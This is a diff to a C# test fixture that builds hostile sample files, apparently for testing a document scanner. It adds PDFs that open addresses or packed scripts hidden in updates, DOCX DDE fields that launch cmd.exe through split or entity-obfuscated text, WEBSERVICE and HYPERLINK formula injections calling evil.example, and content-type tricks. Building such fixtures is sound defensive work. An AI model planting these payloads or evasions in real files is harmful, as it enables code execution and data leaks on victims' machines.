@@ -51,6 +51,14 @@ internal static class HostileFiles
         ["a PDF whose page opens an address"] = ("a.pdf", () => PdfWithPage($"/AA<</O{Address}>>")),
         ["a PDF whose picture opens an address"] = ("a.pdf", () => PdfWithPage($"/Annots[<</Type/Annot/Subtype/Stamp/Rect[0 0 9 9]/AA<</PO{Address}>>>>]")),
         ["a PDF whose field opens an address"] = ("a.pdf", () => Pdf("a", "/AcroForm<</Fields[5 0 R]>>", "", "<</T(a)/Kids[6 0 R]>>", $"<</FT/Tx/T(b)/Parent 5 0 R/AA<</Fo{Address}>>>>")),
+        ["a PDF that opens an address under another generation"] = ("a.pdf", () => Pdf("a", "/OpenAction 5 1 R", "", Address)),
+        ["a PDF that opens an address and says nowhere where it lies"] = ("a.pdf", () => SectionedPdfs.WithoutSections("/OpenAction 5 0 R", Address)),
+        ["a PDF whose update opens an address"] = ("a.pdf", () => SectionedPdfs.Updated($"/OpenAction{Address}")),
+        ["a PDF whose update opens an address and lies before"] = ("a.pdf", () => SectionedPdfs.Backwards($"/OpenAction{Address}")),
+        ["a PDF whose update has a packed script and lies before"] = ("a.pdf", () => SectionedPdfs.PackedBackwards(Script)),
+        ["a PDF of two catalogues of which one opens an address"] = ("a.pdf", () => SectionedPdfs.OfTwoCatalogues($"/OpenAction{Address}")),
+        ["a PDF with a packed script under a number that is there twice"] = ("a.pdf", () => SectionedPdfs.OfTwins(Script)),
+        ["a PDF that has to be repaired"] = ("a.pdf", SectionedPdfs.Lost),
         ["a PDF that opens another file"] = ("a.pdf", () => Pdf("a", "/OpenAction<</S/GoToR/F(//evil.example/a.pdf)/D[0/Fit]>>")),
         ["a PDF whose action is also on its page"] = ("a.pdf", () => PdfOf("a", $"/Annots[5 0 R]/AA<</O 5 0 R>>", "", "", [Address])),
         ["a PDF of which a page is an action"] = ("a.pdf", () => PdfOf("a", $"/AA<</O{Address}>>", "/OpenAction 2 0 R", "", [])),
@@ -72,6 +80,13 @@ internal static class HostileFiles
         ["a DOCX that says it has macros"] = ("a.docx", () => Zip(Changed(OpenXml(FileType.Docx), "[Content_Types].xml", "<Override", "<Default Extension=\"a\" ContentType=\"application/vnd.ms-office.vbaProject\"/><Override"))),
         ["a DOCX with a template elsewhere"] = ("a.docx", () => Docx("word/_rels/settings.xml.rels", Links("attachedTemplate", "https://evil.example/a.dotm", "External"))),
         ["a DOCX with a template on another machine"] = ("a.docx", () => Docx("word/_rels/settings.xml.rels", Links("attachedTemplate", "file:////evil.example/a.dotm", "External"))),
+        ["a DOCX that takes in a page"] = ("a.docx", () => Docx("word/_rels/document.xml.rels", Links("aFChunk", "chunk.xml", "Internal"))),
+        ["a DOCX that says it holds a page"] = ("a.docx", () => WithType(FileType.Docx, "text/html")),
+        ["a DOCX that says it holds a text of another kind"] = ("a.docx", () => WithType(FileType.Docx, "application/rtf")),
+        ["a DOCX that says it holds a mail"] = ("a.docx", () => WithType(FileType.Docx, "message/rfc822")),
+        ["an XLSX that is filled from elsewhere"] = ("a.xlsx", () => WithType(FileType.Xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")),
+        ["an XLSX that is filled from elsewhere and does not say so"] = ("a.xlsx", () => Zip([.. OpenXml(FileType.Xlsx), new("xl/_rels/workbook.xml.rels", Links("connections", "a.xml", "Internal"))])),
+        ["an XLSX with a cell that asks another host under another name"] = ("a.xlsx", () => WithMain(FileType.Xlsx, "<f>_xlfn.&#87;EB<!-- -->SERVICE(\"https://evil.example\")</f>")),
         ["an XLSX with a cell that asks another host"] = ("a.xlsx", () => Zip([.. OpenXml(FileType.Xlsx), new("xl/worksheets/a.xml", "<f>_xlfn.WEBSERVICE(\"https://evil.example\")</f>")])),
         ["an ODS with a cell that asks another host"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:table-cell table:formula=\"of:=WEBSERVICE(&quot;https://evil.example&quot;)\"/>")),
         ["an ODS with a cell that asks another host under another name"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:table-cell table:formula=\"of:=1+COM.MICROSOFT.&#87;EBSERVICE(&quot;https://evil.example&quot;)\"/>")),
@@ -85,6 +100,11 @@ internal static class HostileFiles
         ["a DOCX with a program"] = ("a.docx", () => Docx("word/embeddings/a.exe", "MZ")),
         ["a DOCX with entities that multiply"] = ("a.docx", () => Docx("word/a.xml", "<!DOCTYPE a [<!ENTITY b \"bb\">]><a>&b;</a>")),
         ["a DOCX that starts a program"] = ("a.docx", () => Docx("word/a.xml", "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>")),
+        ["a DOCX that starts a program in pieces"] = ("a.docx", () => WithMain(FileType.Docx, Field(" D", "DE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe"))),
+        ["a DOCX that starts a program when it is asked"] = ("a.docx", () => WithMain(FileType.Docx, Field(" dde c:\\\\cmd.exe"))),
+        ["a DOCX that starts a program behind another field"] = ("a.docx", () => WithMain(FileType.Docx, $"{Field("QUOTE a")}<w:instrText>DDE c:\\\\cmd.exe</w:instrText>")),
+        ["a DOCX that starts a program in short"] = ("a.docx", () => WithMain(FileType.Docx, "<w:fldSimple w:instr=\" DD&#69; c:\\\\cmd.exe\"/>")),
+        ["a DOCX that starts a program from what is called a picture"] = ("a.docx", () => WithMain(FileType.Docx, Field("DDE c:\\\\cmd.exe"), "main.png")),
         ["an ODT with macros"] = ("a.odt", () => Zip([.. OpenDocument(FileType.Odt), new("Basic/Standard/Module1.xml", "<a/>")])),
         ["an ODT that calls a macro"] = ("a.odt", () => Zip([.. OpenDocument(FileType.Odt), new("styles.xml", "<a href=\"vnd.sun.star.script:a\"/>")])),
         ["an ODT with a macro that starts by itself"] = ("a.odt", () => LinkedOdt("content.xml", "<office:scripts><office:event-listeners><s:event-listener xmlns:s=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\" s:language=\"ooo:script\" s:event-name=\"dom:load\" xlink:href=\"&#118;nd.sun.star.script:a?language=Python&amp;location=share\"/></office:event-listeners></office:scripts>")),
@@ -130,6 +150,8 @@ internal static class HostileFiles
         ["a table that computes"] = ("a.csv", () => Text("a;b\n1;\"=HYPERLINK(\"\"http://evil.example\"\")\"\n")),
         ["a table that starts a program"] = ("a.csv", () => Text("a,b\n-2+3+cmd|' /C calc'!A0,1\n")),
         ["a table that starts a program late"] = ("a.csv", () => Text("a,b\n-1+1+1+1+1+1+1+1+1+1+cmd|' /C calc'!A0,1\n")),
+        ["a table that names its separator"] = ("a.csv", () => Text("sep=|\nname|=HYPERLINK(\"http://evil.example\";\"x\")\n")),
+        ["a table that names its separator behind a mark"] = ("a.csv", () => Text("\ufeff\"SEP=a\"\nnamea=HYPERLINK(\"http://evil.example\";\"x\")\n")),
         ["a table that reads backwards"] = ("a.csv", () => Text("a,b\n\u202Eevil,1\n")),
         ["a PNG and an archive"] = ("a.png", () => [.. Png(), .. Archive]),
         ["a PNG with a page in it"] = ("a.png", () => Png(comment: Page)),
@@ -167,6 +189,8 @@ internal static class HostileFiles
         var workbook = Zip([.. OpenXml(FileType.Xlsx), new("big.xml", new string(' ', 5 * 1024 * 1024))]);
         return ("a.docx", ZipOf([.. OpenXml(FileType.Docx).Select(Part), .. Enumerable.Range(0, count).Select(number => new KeyValuePair<string, byte[]>($"word/embeddings/{number}.xlsx", workbook))]));
     }
+
+    private static byte[] WithType(FileType type, string other) => Zip(Changed(OpenXml(type), "[Content_Types].xml", "<Override", $"<Override PartName=\"/part.xml\" ContentType=\"{other}\"/><Override"));
 
     private static KeyValuePair<string, byte[]> Part(KeyValuePair<string, string> part) => new(part.Key, Text(part.Value));
 
